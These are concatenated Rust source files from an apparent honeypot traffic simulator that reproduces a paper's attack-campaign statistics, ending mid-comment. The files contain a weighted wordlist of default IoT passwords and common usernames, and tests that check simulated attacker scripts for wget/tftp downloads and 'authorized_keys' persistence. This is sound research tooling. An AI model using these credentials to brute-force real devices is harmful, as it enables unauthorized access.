const PAPER_DAYS: f64 = 486.0;
/// Recon CMD sessions are planned by the recon source, not the catalog.
/// CMD+URI burst families.
const URI_FAMILIES: usize = 30;
const URI_FAMILY_SESSIONS: f64 = 2_300_000.0 / URI_FAMILIES as f64;

impl CampaignCatalog {
    /// Build the catalog for a study window at a given scale.
    pub fn build(seed: u64, scale: &Scale, window: &StudyWindow) -> Self {
        let days = window.num_days();
        let window_frac = days as f64 / PAPER_DAYS;
        let mut specs = Vec::new();
        let mut headline_ids = Vec::new();
        let mut rng = SmallRng::seed_from_u64(seed ^ 0xc0de_cafe);

        // Shared subset seed for the Mirai-77 family.
        let mirai77_seed = Fnv64::new().mix_u64(seed).mix(b"mirai77").finish();

        for h in headliners(window) {
            let id = CampaignId(specs.len() as u32);
            let is77 = (75..=77).contains(&h.honeypots);
            let target_seed = if is77 {
                // Family members share a base; tiny size differences (75/76/77)
                // keep the subsets nested-ish like the paper's.
                mirai77_seed
            } else {
                rng.gen()
            };
            let active_days = pick_active_days(
                h.start_day.min(days - 1),
                h.span,
                h.days,
                days,
                Fnv64::new().mix_u64(seed).mix(h.name.as_bytes()).finish(),
            );
            let targets = if h.kind.has_uri() && !is77 {
                TargetSet::LocalSubset {
                    seed: target_seed,
                    size: h.honeypots,
                }
            } else {
                TargetSet::Subset {
                    seed: target_seed,
                    size: h.honeypots,
                }
            };
            specs.push(CampaignSpec {
                id,
                name: h.name.to_string(),
                tag: h.tag,
                kind: h.kind,
                payload_seed: Fnv64::new()
                    .mix_u64(seed)
                    .mix(b"payload")
                    .mix(h.name.as_bytes())
                    .finish(),
                n_variants: 1,
                // Sessions prorated to the share of active days that fit
                // inside a (possibly truncated) window.
                total_sessions: scale
                    .count_min(h.sessions * active_days.len() as f64 / h.days as f64, 2),
                // Tiny paper populations (H2's 3 clients, H38's 4) are kept
                // exactly; larger ones scale.
                n_clients: if h.clients <= 50.0 {
                    h.clients as u64
                } else {
                    scale.count_min(h.clients, 1)
                }
                .min(scale.count_min(h.sessions, 2)),
                active_days,
                targets,
                telnet_permille: h.telnet_permille,
                fixed_password: h.fixed_password,
                origin: if h.kind.has_uri() {
                    CountryMix::command_uri()
                } else {
                    CountryMix::command()
                },
                reuse_bruteforce_permille: 400,
            });
            headline_ids.push((h.name.to_string(), id));
        }

        // --- CMD+URI burst families ------------------------------------
        let jun22 = day_of(window, 2022, 6, 1);
        for f in 0..URI_FAMILIES {
            let id = CampaignId(specs.len() as u32);
            let fam_seed: u64 = rng.gen();
            let n_bursts = 3 + (fam_seed % 6) as u32; // 3..=8 bursts
            let mut active = Vec::new();
            let mut brng = SmallRng::seed_from_u64(fam_seed);
            for b in 0..n_bursts {
                // Family 0 gets the June 2022 spike as its first burst.
                let start = if f == 0 && b == 0 && jun22 + 10 < days {
                    jun22
                } else {
                    brng.gen_range(0..days.saturating_sub(10).max(1))
                };
                let len = brng.gen_range(2..=9);
                for d in start..(start + len).min(days) {
                    active.push(d);
                }
            }
            active.sort_unstable();
            active.dedup();
            let clients = if f == 0 {
                2_500.0
            } else {
                100.0 + (fam_seed % 700) as f64
            };
            specs.push(CampaignSpec {
                id,
                name: format!("uri-family-{f:02}"),
                tag: if fam_seed.is_multiple_of(3) {
                    Tag::Mirai
                } else {
                    Tag::Malicious
                },
                kind: if fam_seed.is_multiple_of(2) {
                    ScriptKind::DownloaderWget
                } else {
                    ScriptKind::DownloaderTftp
                },
                payload_seed: fam_seed,
                n_variants: n_bursts.max(1),
                total_sessions: scale.count_min(URI_FAMILY_SESSIONS * window_frac, 4),
                n_clients: scale.count_min(clients * window_frac.max(0.1), 2),
                active_days: active,
                targets: TargetSet::LocalSubset {
                    seed: fam_seed ^ 0x1111,
                    size: 120 + (fam_seed % 100) as u16,
                },
                telnet_permille: 376, // calibrates CMD+URI to 37.55% Telnet
                fixed_password: None,
                origin: CountryMix::command_uri(),
                reuse_bruteforce_permille: 600,
            });
        }

        // --- the long tail ----------------------------------------------
        let n_tail = (scale.hash_count(TAIL_HASHES) as f64 * window_frac)
            .ceil()
            .max(8.0) as usize;
        let tail_sessions_total = scale.count_min(TAIL_SESSIONS * window_frac, n_tail as u64);
        let mut remaining_sessions = tail_sessions_total;
        for t in 0..n_tail {
            let id = CampaignId(specs.len() as u32);
            let cseed: u64 = rng.gen();
            // Lifetime: 60% one day, 30% up to a week, 10% weeks with gaps.
            let life = match cseed % 10 {
                0..=5 => 1u32,
                6..=8 => 2 + (cseed >> 8) as u32 % 6,
                _ => 10 + (cseed >> 8) as u32 % 60,
            };
            let birth = (cseed >> 20) as u32 % days.max(1);
            let active_days = pick_active_days(
                birth,
                life.max(1),
                life.max(1).min(days - birth.min(days - 1)),
                days,
                cseed,
            );
            // Session budget per tail campaign: heavy-tailed, small mean.
            let mean = (tail_sessions_total / n_tail.max(1) as u64).max(1);
            let sessions = if t + 1 == n_tail {
                remaining_sessions.max(1)
            } else {
                let draw = 1 + (Fnv64::new().mix_u64(cseed).mix(b"s").finish() % (2 * mean).max(2));
                draw.min(
                    remaining_sessions
                        .saturating_sub((n_tail - t - 1) as u64)
                        .max(1),
                )
            };
            remaining_sessions = remaining_sessions.saturating_sub(sessions);
            // >60% single honeypot; rest small subsets.
            let hp = match cseed % 100 {
                0..=64 => 1u16,
                65..=89 => 2 + (cseed % 8) as u16,
                _ => 10 + (cseed % 40) as u16,
            };
            specs.push(CampaignSpec {
                id,
                name: format!("tail-{t:05}"),
                tag: Tag::Unknown,
                kind: if cseed.is_multiple_of(3) {
                    ScriptKind::CredChange
                } else {
                    ScriptKind::DropperEcho
                },
                payload_seed: cseed,
                n_variants: 1,
                total_sessions: sessions.max(1),
                n_clients: 1 + cseed % 3,
                active_days,
                targets: TargetSet::HashWeightedSubset {
                    seed: cseed ^ 0xbeef,
                    size: hp,
                },
                telnet_permille: 100,
                fixed_password: None,
                origin: CountryMix::command(),
                reuse_bruteforce_permille: 800,
            });
        }

        CampaignCatalog {
            specs,
            headline_ids,
        }
    }

    /// All campaigns.
    pub fn specs(&self) -> &[CampaignSpec] {
        &self.specs
    }

    /// Get one campaign.
    pub fn get(&self, id: CampaignId) -> &CampaignSpec {
        &self.specs[id.0 as usize]
    }

    /// Number of campaigns.
    pub fn len(&self) -> usize {
        self.specs.len()
    }

    /// Is the catalog empty?
    pub fn is_empty(&self) -> bool {
        self.specs.is_empty()
    }

    /// Find a headline campaign by name ("H1", "M2", …).
    pub fn by_name(&self, name: &str) -> Option<&CampaignSpec> {
        self.headline_ids
            .iter()
            .find(|(n, _)| n == name)
            .map(|(_, id)| self.get(*id))
    }
}

/// Choose `active` day indices for a campaign starting at `start` across a
/// `span` of days, deterministic in `seed`. When `active == span` the days
/// are contiguous; otherwise days are dropped pseudo-randomly (breaks).
fn pick_active_days(start: u32, span: u32, active: u32, window_days: u32, seed: u64) -> Vec<u32> {
    let start = start.min(window_days.saturating_sub(1));
    let end = (start + span).min(window_days);
    let span_days: Vec<u32> = (start..end).collect();
    let active = (active as usize).min(span_days.len()).max(1);
    if active == span_days.len() {
        return span_days;
    }
    // Deterministic reservoir-style selection, then sort.
    let mut rng = SmallRng::seed_from_u64(seed);
    let mut chosen: Vec<u32> = span_days.clone();
    for i in 0..active {
        let j = rng.gen_range(i..chosen.len());
        chosen.swap(i, j);
    }
    chosen.truncate(active);
    chosen.sort_unstable();
    chosen
}

#[cfg(test)]
mod tests {
    use super::*;

    fn catalog() -> CampaignCatalog {
        CampaignCatalog::build(11, &Scale::tiny(), &StudyWindow::paper())
    }

    #[test]
    fn h1_dominates_sessions() {
        let c = catalog();
        let h1 = c.by_name("H1").unwrap();
        let next_best = c
            .specs()
            .iter()
            .filter(|s| s.name != "H1")
            .map(|s| s.total_sessions)
            .max()
            .unwrap();
        assert!(
            h1.total_sessions > 20 * next_best,
            "{} vs {}",
            h1.total_sessions,
            next_best
        );
        assert_eq!(h1.tag, Tag::Trojan);
        assert!(h1.active_days.len() > 450);
    }

    #[test]
    fn h2_has_three_clients_and_breaks() {
        let c = catalog();
        let h2 = c.by_name("H2").unwrap();
        assert_eq!(h2.n_clients, 3);
        // Active days fewer than span → campaign pauses and restarts.
        let span = h2.active_days.last().unwrap() - h2.active_days.first().unwrap() + 1;
        assert!(span > h2.active_days.len() as u32);
    }

    #[test]
    fn mirai77_family_shares_target_subset() {
        let c = catalog();
        let h24 = c.by_name("H24").unwrap().target_nodes(221);
        let h25 = c.by_name("H25").unwrap().target_nodes(221);
        let h32 = c.by_name("H32").unwrap().target_nodes(221);
        assert_eq!(h24.len(), 77);
        assert_eq!(h32.len(), 75);
        // Same seed → same shuffle prefix → h32 ⊂ h24 (nested subsets).
        let set24: std::collections::BTreeSet<u16> = h24.iter().copied().collect();
        assert!(h25.iter().filter(|n| set24.contains(n)).count() >= 75);
        assert!(h32.iter().all(|n| set24.contains(n)));
        // And they all use root:1234 (Section 8.2).
        assert_eq!(c.by_name("H24").unwrap().fixed_password, Some("1234"));
    }

    #[test]
    fn scripts_are_stable_and_kind_consistent() {
        let c = catalog();
        let h1 = c.by_name("H1").unwrap();
        assert_eq!(h1.script(0), h1.script(0));
        assert!(h1.script(0).iter().any(|l| l.contains("authorized_keys")));
        assert!(h1.uri(0).is_none());
        let h4 = c.by_name("H4").unwrap();
        assert!(h4.uri(0).unwrap().starts_with("http://"));
        assert!(h4.script(0).iter().any(|l| l.starts_with("wget ")));
        let h5 = c.by_name("H5").unwrap();
        assert!(h5.uri(0).unwrap().starts_with("tftp://"));
        assert!(h5.script(0).iter().any(|l| l.starts_with("tftp ")));
    }

    #[test]
    fn payloads_unique_per_campaign_and_variant() {
        let c = catalog();
        let a = c.by_name("H4").unwrap();
        let b = c.by_name("H5").unwrap();
        assert_ne!(a.payload_bytes(0), b.payload_bytes(0));
        assert_ne!(a.payload_bytes(0), a.payload_bytes(1));
    }

    #[test]
    fn sessions_on_sums_to_total() {
        let c = catalog();
        for name in ["H1", "H2", "H40", "M1"] {
            let s = c.by_name(name).unwrap();
            let sum: u64 = s.active_days.iter().map(|&d| s.sessions_on(d)).sum();
            assert_eq!(sum, s.total_sessions, "{name}");
            assert_eq!(s.sessions_on(*s.active_days.first().unwrap() + 100_000), 0);
        }
    }

    #[test]
    fn tail_is_long_and_mostly_single_honeypot() {
        let c = catalog();
        let tail: Vec<&CampaignSpec> = c
            .specs()
            .iter()
            .filter(|s| s.name.starts_with("tail-"))
            .collect();
        assert!(tail.len() > 1000, "tail size {}", tail.len());
        let single = tail
            .iter()
            .filter(|s| matches!(s.targets, TargetSet::HashWeightedSubset { size: 1, .. }))
            .count();
        assert!(
            single as f64 / tail.len() as f64 > 0.6,
            "single-honeypot fraction {}",
            single as f64 / tail.len() as f64
        );
        // Most tail campaigns live a single day.
        let one_day = tail.iter().filter(|s| s.active_days.len() == 1).count();
        assert!(one_day as f64 / tail.len() as f64 > 0.5);
    }

    #[test]
    fn variant_on_advances_per_block() {
        let c = catalog();
        let fam = c
            .specs()
            .iter()
            .find(|s| s.name.starts_with("uri-family") && s.n_variants > 1)
            .unwrap();
        // First active day is block 0.
        assert_eq!(fam.variant_on(fam.active_days[0]), 0);
        // A later block eventually yields a different variant.
        let variants: std::collections::BTreeSet<u32> =
            fam.active_days.iter().map(|&d| fam.variant_on(d)).collect();
        assert!(variants.len() > 1, "bursty family should rotate variants");
    }

    #[test]
    fn target_nodes_deterministic_and_sized() {
        let c = catalog();
        let h40 = c.by_name("H40").unwrap();
        let nodes = h40.target_nodes(221);
        assert_eq!(nodes.len(), 4);
        assert_eq!(nodes, h40.target_nodes(221));
        assert!(nodes.iter().all(|&n| n < 221));
    }

    #[test]
    fn build_is_deterministic() {
        let a = CampaignCatalog::build(5, &Scale::tiny(), &StudyWindow::paper());
        let b = CampaignCatalog::build(5, &Scale::tiny(), &StudyWindow::paper());
        assert_eq!(a.len(), b.len());
        for (x, y) in a.specs().iter().zip(b.specs()) {
            assert_eq!(x.payload_seed, y.payload_seed);
            assert_eq!(x.active_days, y.active_days);
            assert_eq!(x.total_sessions, y.total_sessions);
        }
    }

    #[test]
    fn recon_scripts_have_no_files_or_uris() {
        for v in 0..16u64 {
            let script = recon_script(v);
            assert!(!script.is_empty());
            for line in &script {
                assert!(!line.contains('>'), "recon must not redirect: {line}");
                assert!(!line.contains("wget"), "recon must not download: {line}");
            }
        }
    }
}
