//! Credential catalogs, calibrated to the paper's Table 2 and Section 6.
//!
//! Table 2 lists the ten most-used *successful* passwords — a blend of
//! classics ("admin", "1234", "passw0rd") and oddly specific strings
//! ("3245gs5662d34", "vertex25ektks123", "GM8182") that the paper attributes
//! to campaign wordlists or leaked databases. Among failed usernames the
//! paper names "nproc", "admin", and "user".

use rand::Rng;

use hf_proto::creds::Credentials;

/// The paper's Table 2 passwords with generator weights (descending).
pub const TOP_PASSWORDS: &[(&str, u32)] = &[
    ("admin", 180),
    ("1234", 170),
    ("3245gs5662d34", 130),
    ("dreambox", 110),
    ("vertex25ektks123", 95),
    ("12345", 90),
    ("h3c", 80),
    ("1qaz2wsx3edc", 75),
    ("passw0rd", 70),
    ("GM8182", 65),
];

/// Long-tail password pool (weights far below the head).
pub const TAIL_PASSWORDS: &[&str] = &[
    "password",
    "123456",
    "admin123",
    "default",
    "support",
    "qwerty",
    "111111",
    "666666",
    "user",
    "guest",
    "service",
    "system",
    "super",
    "letmein",
    "abc123",
    "pass",
    "raspberry",
    "ubnt",
    "oracle",
    "test",
    "changeme",
    "alpine",
    "anko",
    "xc3511",
    "vizxv",
    "888888",
    "juantech",
    "123321",
    "fucker",
    "klv123",
];

/// Usernames offered in failed attempts (paper: "nproc", "admin", "user" are
/// the most common non-root usernames).
pub const FAIL_USERNAMES: &[(&str, u32)] = &[
    ("nproc", 220),
    ("admin", 200),
    ("user", 150),
    ("ubuntu", 90),
    ("test", 80),
    ("oracle", 70),
    ("postgres", 60),
    ("git", 50),
    ("ftp", 40),
    ("pi", 40),
];

/// Weighted sampler over the credential catalogs.
#[derive(Debug, Clone)]
pub struct CredentialModel {
    pw_cum: Vec<(u32, &'static str)>,
    pw_total: u32,
    user_cum: Vec<(u32, &'static str)>,
    user_total: u32,
}

impl Default for CredentialModel {
    fn default() -> Self {
        Self::new()
    }
}

impl CredentialModel {
    /// Build the default model: head passwords get their Table 2 weights,
    /// tail passwords weight 4 each.
    pub fn new() -> Self {
        let mut pw_cum = Vec::new();
        let mut acc = 0;
        for &(p, w) in TOP_PASSWORDS {
            acc += w;
            pw_cum.push((acc, p));
        }
        for &p in TAIL_PASSWORDS {
            acc += 4;
            pw_cum.push((acc, p));
        }
        let pw_total = acc;
        let mut user_cum = Vec::new();
        let mut uacc = 0;
        for &(u, w) in FAIL_USERNAMES {
            uacc += w;
            user_cum.push((uacc, u));
        }
        CredentialModel {
            pw_cum,
            pw_total,
            user_cum,
            user_total: uacc,
        }
    }

    /// A password for a *successful* login (username is always root).
    pub fn successful_password<R: Rng + ?Sized>(&self, rng: &mut R) -> &'static str {
        let x = rng.gen_range(0..self.pw_total);
        self.pw_cum[self.pw_cum.partition_point(|&(c, _)| c <= x)].1
    }

    /// Credentials for a successful login.
    pub fn successful<R: Rng + ?Sized>(&self, rng: &mut R) -> Credentials {
        Credentials::new("root", self.successful_password(rng))
    }

    /// Credentials for a *failed* attempt: either a non-root username, or the
    /// one password that fails for root ("root" itself).
    pub fn failed<R: Rng + ?Sized>(&self, rng: &mut R) -> Credentials {
        if rng.gen_ratio(3, 10) {
            // root:root — the only rejected root password.
            Credentials::new("root", "root")
        } else {
            let x = rng.gen_range(0..self.user_total);
            let user = self.user_cum[self.user_cum.partition_point(|&(c, _)| c <= x)].1;
            let pw = self.successful_password(rng);
            Credentials::new(user, pw)
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use hf_proto::creds::{AuthOutcome, AuthPolicy};
    use rand::rngs::SmallRng;
    use rand::SeedableRng;

    #[test]
    fn successful_creds_pass_paper_policy() {
        let m = CredentialModel::new();
        let policy = AuthPolicy::paper();
        let mut rng = SmallRng::seed_from_u64(1);
        for _ in 0..500 {
            let c = m.successful(&mut rng);
            assert_eq!(policy.check(&c), AuthOutcome::Accepted, "{c}");
        }
    }

    #[test]
    fn failed_creds_fail_paper_policy() {
        let m = CredentialModel::new();
        let policy = AuthPolicy::paper();
        let mut rng = SmallRng::seed_from_u64(2);
        for _ in 0..500 {
            let c = m.failed(&mut rng);
            assert_eq!(policy.check(&c), AuthOutcome::Rejected, "{c}");
        }
    }

    #[test]
    fn table2_passwords_dominate() {
        let m = CredentialModel::new();
        let mut rng = SmallRng::seed_from_u64(3);
        let mut counts: std::collections::HashMap<&str, u32> = Default::default();
        for _ in 0..50_000 {
            *counts.entry(m.successful_password(&mut rng)).or_default() += 1;
        }
        let mut ranked: Vec<(&str, u32)> = counts.into_iter().collect();
        ranked.sort_by_key(|&(_, n)| std::cmp::Reverse(n));
        let top10: std::collections::BTreeSet<&str> =
            ranked[..10].iter().map(|(p, _)| *p).collect();
        let expected: std::collections::BTreeSet<&str> =
            TOP_PASSWORDS.iter().map(|(p, _)| *p).collect();
        assert_eq!(top10, expected, "empirical top-10 must match Table 2");
    }

    #[test]
    fn failed_usernames_include_papers_named_ones() {
        let m = CredentialModel::new();
        let mut rng = SmallRng::seed_from_u64(4);
        let mut seen = std::collections::BTreeSet::new();
        for _ in 0..5_000 {
            seen.insert(m.failed(&mut rng).username);
        }
        for u in ["nproc", "admin", "user", "root"] {
            assert!(seen.contains(u), "missing {u}");
        }
    }
}
