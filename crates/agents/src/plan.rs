//! Session plans: the unit of work a traffic source hands the simulator.
//!
//! A plan says *who* (client), *where* (honeypot), *when* (day + second of
//! day), *how* (protocol), and *what* (behavior). The simulator executes each
//! plan through the real honeypot state machine; per-session details that
//! don't change aggregate shapes (think times, the exact failed password of
//! attempt #2, the SSH banner) are derived from the plan's `seed`.

use hf_proto::Protocol;

use crate::campaigns::CampaignId;
use crate::clients::ClientRef;

/// What the client does once connected.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Behavior {
    /// Port scan: connect, never send credentials (NO_CRED).
    /// `linger_secs` is how long the client keeps the connection open; 60+
    /// means the honeypot's pre-auth timeout fires instead.
    Scan { linger_secs: u16 },
    /// Brute-force attempt: `attempts` failed logins (1..=3), then either the
    /// client gives up or, at 3, the honeypot disconnects it (FAIL_LOG).
    Scout { attempts: u8 },
    /// Successful login, then nothing (NO_CMD). If `idle_to_timeout`, the
    /// client waits for the honeypot's 3-minute timer (the paper observes
    /// >90% of NO_CMD sessions end by timeout); otherwise it closes early.
    LoginIdle { idle_to_timeout: bool },
    /// Successful login followed by the campaign's command script
    /// (CMD or CMD+URI depending on the script).
    Script { campaign: CampaignId },
    /// Successful login followed by a file-less reconnaissance script
    /// (uname / free / cpuinfo …) — the two thirds of CMD sessions that
    /// never touch the filesystem (Section 8.1).
    Recon { variant: u16 },
}

impl Behavior {
    /// Does this behavior attempt a login?
    pub fn attempts_login(&self) -> bool {
        !matches!(self, Behavior::Scan { .. })
    }

    /// Does this behavior log in successfully?
    pub fn logs_in(&self) -> bool {
        matches!(
            self,
            Behavior::LoginIdle { .. } | Behavior::Script { .. } | Behavior::Recon { .. }
        )
    }
}

/// One planned session.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct SessionPlan {
    /// Day index within the study window.
    pub day: u32,
    /// Start second within the day.
    pub start_secs: u32,
    /// Target honeypot id.
    pub honeypot: u16,
    /// Protocol used.
    pub protocol: Protocol,
    /// The acting client.
    pub client: ClientRef,
    /// What happens.
    pub behavior: Behavior,
    /// Seed for per-session execution details.
    pub seed: u64,
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn behavior_predicates() {
        assert!(!Behavior::Scan { linger_secs: 5 }.attempts_login());
        assert!(Behavior::Scout { attempts: 2 }.attempts_login());
        assert!(!Behavior::Scout { attempts: 2 }.logs_in());
        assert!(Behavior::LoginIdle {
            idle_to_timeout: true
        }
        .logs_in());
        assert!(Behavior::Script {
            campaign: CampaignId(0)
        }
        .logs_in());
    }
}
