//! Volume scaling.
//!
//! The paper's farm logged ~402 million sessions from ~2.1 million client IPs
//! producing 64,004 distinct hashes over 486 days. A reproduction must be
//! runnable on one machine, so every volume is multiplied by a scale factor.
//! Ratios (category mix, protocol mix, per-campaign relative sizes) are
//! scale-invariant; EXPERIMENTS.md reports measured values next to
//! `expected × scale`.
//!
//! Distinct-hash counts do not shrink linearly with traffic in the real world
//! (half the traffic does not mean half the malware variants), so the hash
//! dimension uses `volume.sqrt()` by default — small runs still show a
//! long-tailed, hundreds-per-day hash ecosystem.

use serde::{Deserialize, Serialize};

/// Scale factors applied to the paper's absolute volumes.
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
pub struct Scale {
    /// Multiplier on session and client volumes (1.0 = the paper's 402 M
    /// sessions; 0.01 = the default benchmark scale, ~4 M sessions).
    pub volume: f64,
    /// Multiplier on distinct-hash counts (campaign variant diversity).
    pub hashes: f64,
}

impl Scale {
    /// The paper's full scale.
    pub fn full() -> Self {
        Scale {
            volume: 1.0,
            hashes: 1.0,
        }
    }

    /// A scale with the default sub-linear hash dimension (`sqrt(volume)`).
    pub fn of(volume: f64) -> Self {
        assert!(volume > 0.0 && volume <= 1.0, "scale must be in (0, 1]");
        Scale {
            volume,
            hashes: volume.sqrt(),
        }
    }

    /// Default benchmark/example scale: 1:100 sessions, 1:10 hashes.
    pub fn default_bench() -> Self {
        Scale::of(0.01)
    }

    /// Tiny scale for unit/integration tests.
    pub fn tiny() -> Self {
        Scale::of(0.0005)
    }

    /// Scale a session/client count.
    pub fn count(&self, paper_value: f64) -> u64 {
        checked_u64((paper_value * self.volume).round().max(0.0), "scaled count")
    }

    /// Scale a count, but never below `min` (for small populations that lose
    /// their meaning at zero, e.g. a 3-client campaign).
    pub fn count_min(&self, paper_value: f64, min: u64) -> u64 {
        self.count(paper_value).max(min)
    }

    /// Scale a distinct-hash count.
    pub fn hash_count(&self, paper_value: f64) -> u64 {
        checked_u64(
            (paper_value * self.hashes).round().max(1.0),
            "scaled hash count",
        )
    }
}

/// Checked float→integer conversion for sizing math. A bare `as u64` cast
/// silently saturates NaN/negative/huge values, which turns a mis-scaled
/// budget into a mysteriously wrong (or allocation-exploding) run; sizing
/// errors should instead fail loudly, naming the quantity.
pub fn checked_u64(value: f64, what: &str) -> u64 {
    assert!(value.is_finite(), "{what}: non-finite sizing value {value}");
    assert!(value >= 0.0, "{what}: negative sizing value {value}");
    // 2^63 is exactly representable; every f64 below it converts exactly
    // enough for a count. (u64::MAX as f64 rounds up, so compare strictly.)
    assert!(
        value < u64::MAX as f64,
        "{what}: sizing value {value:e} overflows u64"
    );
    value as u64
}

/// [`checked_u64`] narrowed to `u32` (world/AS cardinalities).
pub fn checked_u32(value: f64, what: &str) -> u32 {
    let v = checked_u64(value, what);
    u32::try_from(v).unwrap_or_else(|_| panic!("{what}: sizing value {v} overflows u32"))
}

impl Default for Scale {
    fn default() -> Self {
        Scale::default_bench()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn full_scale_is_identity() {
        let s = Scale::full();
        assert_eq!(s.count(402_000_000.0), 402_000_000);
        assert_eq!(s.hash_count(64_004.0), 64_004);
    }

    #[test]
    fn bench_scale_ratios() {
        let s = Scale::default_bench();
        assert_eq!(s.count(402_000_000.0), 4_020_000);
        assert_eq!(s.hash_count(64_004.0), 6_400);
    }

    #[test]
    fn count_min_floors_small_populations() {
        let s = Scale::of(0.001);
        assert_eq!(s.count_min(3.0, 3), 3, "H2's 3 clients survive scaling");
        assert_eq!(s.count_min(118_924.0, 3), 119);
    }

    #[test]
    fn hash_dimension_is_sublinear() {
        let s = Scale::of(0.01);
        assert!(s.hashes > s.volume);
        assert!((s.hashes - 0.1).abs() < 1e-12);
    }

    #[test]
    #[should_panic]
    fn zero_scale_rejected() {
        Scale::of(0.0);
    }

    #[test]
    fn checked_casts_accept_the_whole_sizing_range() {
        assert_eq!(checked_u64(0.0, "zero"), 0);
        assert_eq!(checked_u64(4.02e9, "10x paper"), 4_020_000_000);
        assert_eq!(checked_u32(17_700.0, "as count"), 17_700);
    }

    #[test]
    #[should_panic(expected = "non-finite")]
    fn checked_cast_rejects_nan() {
        checked_u64(f64::NAN, "bad budget");
    }

    #[test]
    #[should_panic(expected = "negative")]
    fn checked_cast_rejects_negative() {
        checked_u64(-1.0, "bad budget");
    }

    #[test]
    #[should_panic(expected = "overflows u32")]
    fn checked_cast_rejects_narrowing_overflow() {
        checked_u32(1e12, "too many ASes");
    }
}
