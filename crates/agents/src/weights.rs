//! Per-source honeypot popularity vectors.
//!
//! Figure 2 shows sessions per honeypot with a knee around rank 11, the top
//! 10 holding 14% of all sessions, and a >30× max/min spread. Figures 14,
//! 18, 19 show that the honeypots richest in *clients* and in *hashes* are
//! *not* the sessions-richest ones. We reproduce that by giving each traffic
//! dimension its own weight vector over the 221 nodes: same distribution
//! family, different (seeded) permutation of which nodes are hot.

use hf_hash::Fnv64;
use rand::rngs::SmallRng;
use rand::{seq::SliceRandom, Rng, SeedableRng};

/// A normalized popularity vector over honeypots with O(log n) sampling.
#[derive(Debug, Clone)]
pub struct HoneypotWeights {
    /// Cumulative weights; last element is 1.0 (within fp error).
    cum: Vec<f64>,
}

/// Which traffic dimension a weight vector models. Each gets a different hot
/// set so "top by sessions ≠ top by clients ≠ top by hashes" emerges.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Dimension {
    /// Session-volume weights (bruteforce/no-cmd heavy hitters).
    Sessions,
    /// Client-count weights (scanners).
    Clients,
    /// Hash-diversity weights (long-tail campaigns).
    Hashes,
}

impl HoneypotWeights {
    /// Build the paper-shaped weight vector for `n` honeypots: ~10 hot nodes
    /// holding ~14% of mass, a knee, then a declining tail with ≥30× spread.
    /// `dim` + `seed` select which nodes are hot.
    pub fn paper_shape(n: usize, dim: Dimension, seed: u64) -> Self {
        // The Sessions dimension gets a heavier head: the farm's observed
        // per-honeypot session counts blend several sources (scanning uses
        // the Clients permutation), which dilutes the head back to the
        // paper's 14% / >30× shape.
        let head_mass = match dim {
            Dimension::Sessions => 0.20,
            // Hash diversity concentrates hardest: the top ~20% of honeypots
            // see 5–30× more unique hashes than the rest (Fig. 18).
            Dimension::Hashes => 0.22,
            Dimension::Clients => 0.14,
        };
        Self::shaped(n, dim, seed, head_mass)
    }

    /// `paper_shape` with an explicit head-mass fraction.
    pub fn shaped(n: usize, dim: Dimension, seed: u64, head_mass: f64) -> Self {
        assert!(n > 0);
        let n_head = 10usize.min(n);
        let head_raw: Vec<f64> = (0..n_head).map(|r| 2.6 - 0.2 * r as f64).collect();
        let tail_raw: Vec<f64> = (n_head..n)
            .map(|r| {
                let t = (r - n_head) as f64 / (n - n_head).max(1) as f64;
                0.0055 * (1.0 - t) + 0.0002 * t
            })
            .collect();
        let tail_sum: f64 = tail_raw.iter().sum();
        let head_sum: f64 = head_raw.iter().sum();
        // Scale the head so head/(head+tail) = head_mass (for n > n_head).
        let head_scale = if tail_sum > 0.0 {
            (head_mass / (1.0 - head_mass)) * tail_sum / head_sum
        } else {
            1.0
        };
        let mut by_rank: Vec<f64> = head_raw
            .iter()
            .map(|w| w * head_scale)
            .chain(tail_raw.iter().copied())
            .collect();
        let total: f64 = by_rank.iter().sum();
        for w in &mut by_rank {
            *w /= total;
        }
        // Permute: which node gets which rank depends on (dim, seed).
        let dim_tag = match dim {
            Dimension::Sessions => 1u64,
            Dimension::Clients => 2,
            Dimension::Hashes => 3,
        };
        let mut rng = SmallRng::seed_from_u64(Fnv64::new().mix_u64(seed).mix_u64(dim_tag).finish());
        let mut order: Vec<usize> = (0..n).collect();
        order.shuffle(&mut rng);
        let mut weights = vec![0.0; n];
        for (rank, &node) in order.iter().enumerate() {
            weights[node] = by_rank[rank];
        }
        Self::from_weights(&weights)
    }

    /// Build from raw weights (normalized internally).
    pub fn from_weights(weights: &[f64]) -> Self {
        let total: f64 = weights.iter().sum();
        assert!(total > 0.0);
        let mut cum = Vec::with_capacity(weights.len());
        let mut acc = 0.0;
        for &w in weights {
            assert!(w >= 0.0);
            acc += w / total;
            cum.push(acc);
        }
        HoneypotWeights { cum }
    }

    /// Uniform weights.
    pub fn uniform(n: usize) -> Self {
        Self::from_weights(&vec![1.0; n])
    }

    /// Number of honeypots.
    pub fn len(&self) -> usize {
        self.cum.len()
    }

    /// Is the vector empty?
    pub fn is_empty(&self) -> bool {
        self.cum.is_empty()
    }

    /// Sample a honeypot index.
    pub fn sample<R: Rng + ?Sized>(&self, rng: &mut R) -> u16 {
        self.pick(rng.gen::<f64>())
    }

    /// Deterministic pick from a uniform [0,1) value (used to realize a
    /// client's stable target set from a PRF stream).
    pub fn pick(&self, u: f64) -> u16 {
        let idx = self.cum.partition_point(|&c| c <= u);
        idx.min(self.cum.len() - 1) as u16
    }

    /// Probability mass of one honeypot.
    pub fn mass(&self, i: usize) -> f64 {
        let prev = if i == 0 { 0.0 } else { self.cum[i - 1] };
        self.cum[i] - prev
    }

    /// Indices sorted by descending mass (for tests/reports).
    pub fn ranked(&self) -> Vec<u16> {
        let mut idx: Vec<u16> = (0..self.len() as u16).collect();
        idx.sort_by(|&a, &b| {
            self.mass(b as usize)
                .partial_cmp(&self.mass(a as usize))
                .unwrap()
        });
        idx
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn paper_shape_head_masses() {
        let top10_of = |dim| {
            let w = HoneypotWeights::paper_shape(221, dim, 7);
            let ranked = w.ranked();
            ranked[..10]
                .iter()
                .map(|&i| w.mass(i as usize))
                .sum::<f64>()
        };
        // Clients holds the paper's 14%; Sessions is boosted to 20% so the
